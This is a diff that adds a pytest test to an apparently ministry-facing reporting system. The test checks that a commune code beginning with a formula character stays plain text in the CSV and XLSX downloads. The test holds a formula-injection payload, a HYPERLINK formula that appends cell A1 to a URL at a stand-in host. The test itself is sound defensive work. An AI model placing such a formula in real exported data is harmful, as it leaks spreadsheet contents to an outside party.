@@ -200,3 +200,26 @@ def test_the_ministry_sheet_shows_the_month_and_the_year_so_far() -> None:
     assert [(r[5], r[6], r[7] or "", r[8]) for r in machine] == [
         (n, b, k, v) for *_, n, b, k, v in report_rows(month)
     ]
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
+def test_a_commune_code_that_reads_as_a_formula_stays_text_in_every_download(start: str) -> None:
+    """A worker.registered from the topic is not checked against the units file: its commune
+    code reaches the report's breakdown keys, the CSV and both sheets of the XLSX."""
+    hostile = f'{start}HYPERLINK("http://x.example/?"&A1,"ok")'
+    registration = next(e for e in EVENTS if e.type == "worker.registered")
+    data = {**registration.data}
+    data["locality"] = {**data["locality"], "commune_code": hostile}
+    hostile_registration = registration.model_copy(update={"data": data})
+    events = [hostile_registration if e is registration else e for e in EVENTS]
+    received_at = NOW - timedelta(days=1)
+    facts = [f for e in events if (f := fact_of(e, decode_payload(e), received_at))]
+    month = report_of(facts, Period(date(2025, 1, 1), date(2025, 12, 31)))
+    assert any(f.key == hostile for f in month.figures)
+    assert f"\n'{start}HYPERLINK" not in report_csv(month).decode()
+    assert f",\"'{start}HYPERLINK" in report_csv(month).decode()
+    workbook = load_workbook(io.BytesIO(report_xlsx(month, month)))
+    cells = [c for sheet in workbook for row in sheet.iter_rows() for c in row]
+    named = [c for c in cells if isinstance(c.value, str) and "HYPERLINK" in c.value]
+    assert named
+    assert all(c.data_type == "s" and not c.value.startswith(start) for c in named)
